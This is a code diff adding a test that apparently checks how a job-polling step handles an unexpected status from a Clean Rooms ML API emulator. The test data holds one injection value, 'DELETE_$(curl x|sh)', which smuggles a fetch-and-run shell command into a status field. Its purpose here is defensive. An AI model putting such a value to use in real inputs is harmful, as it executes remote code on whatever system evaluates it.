@@ -106,6 +106,23 @@ describe('long waits are bounded and never look hung', () => {
   })
 })
 
+describe('a status outside the API model is neither an end nor an output', () => {
+  it('keeps waiting, and passes no such status on to later steps', async () => {
+    const body = JSON.stringify({ status: 'DELETE_$(curl x|sh)' })
+    emulator.fault(
+      'cleanrooms-ml',
+      'GetAudienceGenerationJob',
+      ...Array.from({ length: 40 }, () => ({ kind: 'raw', status: 200, body }) as const)
+    )
+    const result = await step(
+      { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '60' },
+      ENV_CREDENTIALS
+    )
+    expect(result.outputs['error-type']).toBe('WaitTimeout')
+    expect(result.outputs['status']).toBe('')
+  })
+})
+
 describe('wait-timeout-seconds is a hard bound, whatever the status checks do', () => {
   const WAIT = { ...INPUTS, 'wait-for-completion': 'true', 'wait-timeout-seconds': '600' }
   const hang = { kind: 'hang' } as const
